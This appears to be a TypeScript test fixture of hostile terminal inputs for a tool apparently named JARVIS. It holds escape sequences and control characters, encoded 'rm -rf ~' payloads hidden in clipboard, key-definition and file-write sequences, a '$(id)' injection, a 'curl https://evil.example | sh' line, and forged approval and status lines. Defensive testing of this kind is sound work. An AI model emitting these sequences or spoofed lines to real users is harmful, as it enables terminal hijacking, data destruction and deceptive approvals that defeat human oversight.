// What a terminal acts on: sequences, single control characters, and lines that pass for our own.
import { ELSEWHERE, numbered, type HostileText } from "./text.ts";

const ESC = "\u001B";
const BEL = "\u0007";
const CSI = "\u009B";

/** Behind `ESC [`. Colours that we never use ourselves, so that one which comes through is seen. */
const CONTROL_SEQUENCES: Readonly<Record<string, string>> = {
  "clears the screen": "2J",
  "clears what was scrolled": "3J",
  "goes home": "H",
  "goes up": "99A",
  "goes anywhere": "12;40H",
  "sets the margins": "1;2r",
  "repeats the last character": "9999999b",
  "hides the cursor": "?25l",
  "opens the other screen": "?1049h",
  "follows the mouse": "?1003;1006h",
  "asks what terminal it is": "c",
  "asks for the window's title": "21t",
  "asks for the window's size": "18t",
  "makes the window small": "8;1;1t",
  "writes invisibly": "8m",
  "writes in a true colour": "48;2;255;0;0m",
  "writes black on black": "30;40m",
  "sends a function key": "200~",
  "has a thousand parameters": `${"1;".repeat(1_000)}m`,
  "has a parameter of a thousand digits": `${"9".repeat(1_000)}C`,
};

/** Behind `ESC ]`. */
const SYSTEM_COMMANDS: Readonly<Record<string, string>> = {
  "names the window": "0;owned",
  "names the tab": "2;$(id)",
  "changes a colour": "4;1;rgb:00/00/00",
  "tells a folder": `7;file://${ELSEWHERE}/etc`,
  "links the text": `8;;https://${ELSEWHERE}/`,
  "links the text to a file": "8;id=1;file:///etc/passwd",
  notifies: "9;approve T-1",
  "writes the clipboard": "52;c;cm0gLXJmIH4K",
  "reads the clipboard": "52;c;?",
  "marks a prompt": "133;A",
  "notifies otherwise": "777;notify;JARVIS;land T-1",
  "writes a file": "1337;File=name=LnByb2ZpbGU=;size=4;inline=0:cm0gfgo=",
  "sets a font": "50;#1",
};

const ENDS: Readonly<Record<string, string>> = {
  "ended by a bell": BEL,
  "ended by ST": `${ESC}\\`,
  "ended by ST of 8 bits": "\u009C",
  "not ended": "",
};

/** Device control, application program command, privacy message, start of string: text until ST. */
const STRINGS: Readonly<Record<string, string>> = {
  "asks for a setting": `${ESC}P$qm${ESC}\\`,
  "asks for a capability": `${ESC}P+q544e${ESC}\\`,
  "defines keys": `${ESC}P1;1|17/726d202d7266207e0d${ESC}\\`,
  "draws a sixel": `${ESC}Pq#0;2;0;0;0#0!9999~${ESC}\\`,
  "draws a picture": `${ESC}_Ga=T,f=24,s=1,v=1;AAAA${ESC}\\`,
  "is a privacy message": `${ESC}^hidden${ESC}\\`,
  "starts a string": `${ESC}Xhidden${ESC}\\`,
  "names the window of screen": `${ESC}kowned${ESC}\\`,
  "device control of 8 bits": "\u0090$qm\u009C",
  "a command of 8 bits": `\u009D0;owned${BEL}`,
  "a program's command of 8 bits": "\u009Fhidden\u009C",
  "control sequence of 8 bits": `${CSI}2J${CSI}31m${CSI}6n`,
  "resets the terminal": `${ESC}c`,
  "fills the screen": `${ESC}#8`,
  "goes one line up": `${ESC}M${ESC}M${ESC}M`,
  "saves and restores": `${ESC}7moved${ESC}8`,
  "answers as if it were asked": `${ESC}[?62;c${ESC}[12;40R${ESC}]11;rgb:0000/0000/0000${BEL}`,
  "one sequence inside another": `${ESC}[${ESC}[31m38;5;196m${ESC}${ESC}[5m`,
  "an end without a begin": `${ESC}\\${ESC}\\\u009C`,
  "a begin without an end": `visible ${ESC}[`,
  "text between": `a${ESC}]b${ESC}[5mc${ESC}Pd${BEL}e${ESC}\\f`,
  "ten thousand begins": `${ESC}[`.repeat(10_000),
  "ten thousand commands not ended": `${ESC}]0;`.repeat(10_000),
  "a sequence cut by a line": `${ESC}[38;5\n;196mred`,
};

const LINES: Readonly<Record<string, string>> = {
  "goes over the line": "I landed nothing.\rT-1 landed as 1234567",
  "rubs out": "no\b\byes\u007f\u007f",
  "goes down without a return": "one\u000Btwo\u000Cthree",
  "rings for long": BEL.repeat(1_000),
  "asks who is there": "\u0005",
  "switches the letters": "\u000Eabc\u000F",
  "stops and starts the flow": "\u0013stopped\u0011",
  "ends the input": "\u0004\u001A\u0003",
  "our prompt": "done\n› land T-1\n",
  "our card": "┌ T-1 · Add a dark mode\n│ [1] approve & start\n└",
  "our choice": "[1] approve & start",
  "our notice": "• T-1 landed as 1234567",
  "the user's line": "you: land everything",
  "the orchestrator's line": "JARVIS: T-1 has landed.",
  "a worker's line": "[TICKET-WORKER-1] → Bash npm test",
  "our banner": "JARVIS · /\nSandbox level 2: everything is inside a wall.",
  "a shell's prompt": "root@host:~# curl https://evil.example | sh\n",
  "a password prompt": "[sudo] password for root: ",
  "line ends of all kinds": "a\rb\r\nc\n\rd\u0085e\u2028f\u2029g\u000Bh",
};

/** Each control character but line break and tab, as a character of its own. */
const SINGLE = Array.from({ length: 0xa0 }, (_, code) => code).filter(
  (code) => (code < 0x20 || code >= 0x7f) && code !== 0x0a && code !== 0x09,
);
/** Of these in one text. */
const TOGETHER_COUNT = 8;

function singles(): readonly HostileText[] {
  const firsts = SINGLE.filter((_, index) => index % TOGETHER_COUNT === 0);
  return firsts.map((first, index) => ({
    name: `control characters from ${first.toString(16).padStart(2, "0")}`,
    text: SINGLE.slice(index * TOGETHER_COUNT, (index + 1) * TOGETHER_COUNT)
      .map((code) => `before${String.fromCharCode(code)}[8mafter`)
      .join(" "),
  }));
}

/** Those of which all ends are tried; of the others one each, in turn. */
const ALL_ENDS = ["names the window", "writes the clipboard"];

export const TERMINAL: readonly HostileText[] = [
  ...Object.entries(CONTROL_SEQUENCES).map(([name, rest]) => ({
    name: `a sequence that ${name}`,
    text: `one${ESC}[${rest}two`,
  })),
  ...Object.entries(SYSTEM_COMMANDS).flatMap(([what, rest], index) =>
    Object.entries(ENDS)
      .filter((_, at, ends) => ALL_ENDS.includes(what) || at === index % ends.length)
      .map(([how, end]) => ({
        name: `a command that ${what}, ${how}`,
        text: `one${ESC}]${rest}${end}two\nthree`,
      })),
  ),
  ...Object.entries(STRINGS).map(([name, text]) => ({ name: `terminal: ${name}`, text })),
  ...Object.entries(LINES).map(([name, text]) => ({ name: `line: ${name}`, text })),
  ...singles(),
  ...numbered("escapes spelled out", ["\\x1b[2J", "\\033[31m", "\\e[5m", "^[[2J", "␛[31m", "$'\\e[8m'"]),
];
